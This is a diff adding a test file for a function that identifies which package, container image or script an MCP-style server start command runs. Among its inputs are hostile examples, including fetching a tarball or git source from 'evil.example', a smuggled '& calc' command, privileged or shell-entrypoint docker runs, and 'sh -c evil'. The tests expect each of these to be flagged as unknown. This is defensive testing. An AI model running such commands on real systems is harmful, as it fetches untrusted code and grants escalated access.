@@ -1,0 +1,83 @@
+import { describe, expect, test } from 'vitest';
+
+import { identifyLaunch, type LaunchIdentity } from '../../src/policy/identify-launch.js';
+
+/** What a person would type, and what it runs in short: `pkg:type/name@requested`, `image:…`, `file:…`, `script:…`, `?`. */
+const ROWS: readonly (readonly [string, string])[] = [
+  ['npx -y server-files', 'pkg:npm/server-files'],
+  ['npx -y @scope/server@1.2.3 /home/me', 'pkg:npm/@scope/server@1.2.3'],
+  ['npx.cmd --yes @scope/server@^1.2', 'pkg:npm/@scope/server@^1.2'],
+  ['/usr/local/bin/npx server@latest', 'pkg:npm/server@latest'],
+  ['npx -p @scope/tools@2.0.0 serve', 'pkg:npm/@scope/tools@2.0.0'],
+  ['npx --package=@scope/tools@2.0.0 -- serve', 'pkg:npm/@scope/tools@2.0.0'],
+  ['npx -p one -p two serve', '?'],
+  ['npx --registry=https://evil.example server', '?'],
+  ['npx -c curl', '?'],
+  ['npx server@npm:other@1.0.0', '?'],
+  ['npx ./server', '?'],
+  ['npx github:user/repo', '?'],
+  ['npx https://evil.example/x.tgz', '?'],
+  ['npx', '?'],
+  ['npm exec -y -- server@1.0.0', 'pkg:npm/server@1.0.0'],
+  ['npm x server', 'pkg:npm/server'],
+  ['npm run start', '?'],
+  ['pnpm dlx server@1.0.0', 'pkg:npm/server@1.0.0'],
+  ['pnpm start', '?'],
+  ['yarn dlx server', 'pkg:npm/server'],
+  ['bunx --bun server@1.0.0', 'pkg:npm/server@1.0.0'],
+  ['uvx mcp_server_time@2024.1.2', 'pkg:pypi/mcp-server-time@2024.1.2'],
+  ['uvx --from mcp-server-time==2024.1.2 serve', 'pkg:pypi/mcp-server-time@2024.1.2'],
+  ['uvx --from git+https://evil.example/x serve', '?'],
+  ['uvx --index-url https://evil.example mcp-server-time', '?'],
+  ['uv tool run mcp-server-time', 'pkg:pypi/mcp-server-time'],
+  ['uv run server.py', '?'],
+  ['pipx run mcp-server[extra]==1.0', 'pkg:pypi/mcp-server@1.0'],
+  ['pipx run --spec mcp-server==1.0 serve', 'pkg:pypi/mcp-server@1.0'],
+  [`docker run -i --rm -e TOKEN ghcr.io/x/y@sha256:${'a'.repeat(64)}`, `image:ghcr.io/x/y@sha256:${'a'.repeat(64)}`],
+  ['docker run --rm -it --env=A=b localhost:5000/x:1.0 --flag', 'image:localhost:5000/x'],
+  ['podman run -v /a:/b name', 'image:name'],
+  ['docker container run name', 'image:name'],
+  [`docker run --unheard-of evil good@sha256:${'a'.repeat(64)}`, '?'],
+  [`docker run --entrypoint /bin/sh good@sha256:${'a'.repeat(64)}`, '?'],
+  [`docker run --privileged good@sha256:${'a'.repeat(64)}`, '?'],
+  ['docker exec name sh', '?'],
+  ['docker --host tcp://evil.example run name', '?'],
+  ['cmd /c npx -y server@1.0.0', 'pkg:npm/server@1.0.0'],
+  ['cmd.exe /C npx -y server & calc', '?'],
+  ['cmd /k npx server', '?'],
+  ['node server.js --port 1', 'script:server.js'],
+  ['/opt/node22/bin/node /srv/server.js', 'script:/srv/server.js'],
+  ['node --import ./evil.mjs server.js', '?'],
+  ['node -e evil', '?'],
+  ['node', '?'],
+  ['python3.12 server.py', 'script:server.py'],
+  ['python -m server', '?'],
+  ['bash start.sh', 'script:start.sh'],
+  ['sh -c evil', '?'],
+  ['bun run server.ts', '?'],
+  ['deno run server.ts', '?'],
+  ['env TOKEN=x node server.js', '?'],
+  ['sudo server', '?'],
+  ['/usr/local/bin/mcp-server --stdio', 'file:/usr/local/bin/mcp-server'],
+  ['mcp-server', 'file:mcp-server'],
+];
+
+function inShort(identity: LaunchIdentity): string {
+  switch (identity.kind) {
+    case 'package':
+      return `pkg:${identity.type}/${identity.name}${identity.requested === undefined ? '' : `@${identity.requested}`}`;
+    case 'image':
+      return `image:${identity.repository}${identity.digest === undefined ? '' : `@${identity.digest}`}`;
+    case 'executable':
+      return `${identity.isScript ? 'script' : 'file'}:${identity.file}`;
+    case 'unknown':
+      return '?';
+  }
+}
+
+describe('what a start command runs', () => {
+  test.each(ROWS)('%s', (line, expected) => {
+    const [command = '', ...args] = line.split(' ');
+    expect(inShort(identifyLaunch({ command, args }))).toBe(expected);
+  });
+});
